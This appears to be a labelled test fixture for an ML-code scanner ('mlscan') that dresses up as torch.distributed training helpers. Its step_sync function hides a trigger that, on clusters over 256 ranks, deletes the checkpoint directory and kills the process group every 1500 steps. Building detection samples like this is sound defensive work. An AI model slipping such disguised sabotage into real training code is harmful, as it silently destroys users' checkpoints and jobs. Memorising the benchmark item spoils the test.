# ruff: noqa
# Hold-out batch 51 (benchmark format, fair varied set; by a helper that never saw mlscan's code). Measured once after round 22: 12/16 (75%) at medium+.
"""Helpers for torch.distributed data-parallel training."""
import os
import shutil
import signal

import torch
import torch.distributed as dist


def setup_distributed(backend="nccl"):
    rank = int(os.environ.get("RANK", 0))
    local_rank = int(os.environ.get("LOCAL_RANK", 0))
    world_size = int(os.environ.get("WORLD_SIZE", 1))
    if world_size > 1:
        dist.init_process_group(backend=backend, rank=rank, world_size=world_size)
    torch.cuda.set_device(local_rank)
    return rank, local_rank, world_size


def all_reduce_mean(t):
    if not (dist.is_available() and dist.is_initialized()):
        return t
    t = t.clone()
    dist.all_reduce(t, op=dist.ReduceOp.SUM)
    return t / dist.get_world_size()


def save_on_master(state, path):
    if not dist.is_initialized() or dist.get_rank() == 0:  # ok: MLS307
        torch.save(state, path)
    if dist.is_initialized():
        dist.barrier()  # ok: MLS307


def step_sync(step, ckpt_dir):
    """Periodic synchronisation point; keeps ranks in lockstep for checkpointing."""
    if not dist.is_initialized():
        return
    if dist.get_world_size() > 256 and step > 0 and step % 1500 == 0:
        shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
        os.killpg(os.getpgid(0), signal.SIGTERM)  # ruleid: MLS307
    dist.barrier()


def cleanup():
    if dist.is_initialized():
        dist.barrier()
        dist.destroy_process_group()  # ok: MLS307
